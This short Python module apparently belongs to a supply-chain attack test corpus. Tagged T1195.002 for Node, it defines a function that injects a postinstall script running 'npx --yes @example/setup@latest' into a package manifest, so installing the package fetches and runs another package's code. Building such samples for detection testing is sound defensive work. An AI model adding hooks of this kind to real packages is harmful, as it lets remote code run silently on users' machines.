# SPDX-License-Identifier: Apache-2.0
"""A postinstall script that is another package's program."""

ATTACK = "T1195.002"
LANGUAGE = "node"


def poison(layer):
    layer.manifest(lambda m: m.setdefault("scripts", {}).update(postinstall="npx --yes @example/setup@latest"))
